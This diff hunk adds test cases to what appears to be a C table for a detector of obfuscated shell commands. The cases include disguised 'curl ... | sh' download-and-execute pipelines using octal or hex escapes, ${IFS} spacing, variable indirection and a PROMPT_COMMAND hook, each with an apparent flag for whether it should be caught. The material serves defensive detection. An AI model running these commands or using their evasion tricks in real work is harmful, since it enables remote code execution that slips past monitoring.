@@ -186,6 +186,12 @@ static const struct text commands[] = {
     {"'w'get${IFS}-qO-${IFS}http://h|sh", false}, /* no word before it */
     {"w'g'et${IFS}-qO-${IFS}http://h|sh", true},
     {"$'\\x63\\165rl' http://h | sh", true},
+    {"x=$(printf \"\\143\\165\\162\\154\")\n$x${IFS}-s${IFS}h/x|${SHELL:-sh}",
+	true},
+    {"x=$(echo -e '\\x63url')\n$x h | sh", true},
+    {"x=$(printf '%s' curl)\n$x h | sh", false}, /* a format */
+    {"PROMPT_COMMAND=\"curl -s http://h/p\"", true},
+    {"PROMPT_COMMAND='history -a'; curl http://h", false},
     {"C=echo\n$C http://h | sh", false},
     {"C=curl\nC=$(pick)\n$C http://h | sh", false}, /* not known any more */
     {"C='curl\n$C http://h | sh", false},
